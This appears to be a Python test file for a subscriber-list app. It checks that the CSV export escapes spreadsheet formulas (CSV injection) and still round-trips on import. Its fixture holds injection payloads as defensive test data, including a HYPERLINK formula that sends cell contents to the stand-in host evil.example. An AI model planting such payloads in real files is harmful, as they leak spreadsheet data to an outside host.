"""A subscriber's name or address never becomes a formula in the staff's spreadsheet (OWASP CSV injection), and the
export still imports back to the same people."""

from __future__ import annotations

import csv
import io

from core.clock import FrozenClock
from core.csvcells import FORMULA_STARTS
from core.model import Subscriber, SubscriberStatus
from storage.database import Database
from storage.subscribers import SubscriberRepository
from subscribers.exporter import to_csv
from subscribers.importer import import_csv
from subscribers.kit import SubscriberKit

NAMES = {
    "a@exemple.fr": '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")',
    "b@exemple.fr": "+33 4 72 00 00 00",
    "c@exemple.fr": "-1+2",
    "d@exemple.fr": "@SUM(A1:A9)",
    "e@exemple.fr": "'=déjà une apostrophe",
    "=1+1@exemple.fr": "Adresse piégée",
}


def people(db: Database) -> dict[str, str | None]:
    with db.session() as s:
        return {sub.email: sub.name for sub in SubscriberRepository(s).find()}


def test_the_export_neutralises_formulas_and_imports_back(kit: SubscriberKit, db: Database, clock: FrozenClock) -> None:
    with db.session() as s:
        for email, name in NAMES.items():  # as the public form stores them: names are free text
            SubscriberRepository(s).save(Subscriber(email=email, name=name, status=SubscriberStatus.CONFIRMED))
    with db.session() as s:
        exported = to_csv(SubscriberRepository(s).find())

    table = list(csv.reader(io.StringIO(exported)))
    cells = [cell for row in table[1:] for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    by_email = {row[0]: row[1] for row in table[1:]}
    assert by_email["'=1+1@exemple.fr"] == "Adresse piégée"
    assert by_email["c@exemple.fr"] == "'-1+2" and by_email["e@exemple.fr"] == "''=déjà une apostrophe"

    # the round trip: the same people, the same names, once the export is imported into an emptied list
    with db.session() as s:
        repo = SubscriberRepository(s)
        for sub in repo.find():
            assert sub.id is not None
            repo.delete(sub.id)
    again = import_csv(db, clock, exported.encode(), kit.choices, confirmed=True, basis="adhérents 2026")
    assert again.summary["created"] == len(NAMES) and again.summary["failed"] == 0
    assert people(db) == NAMES
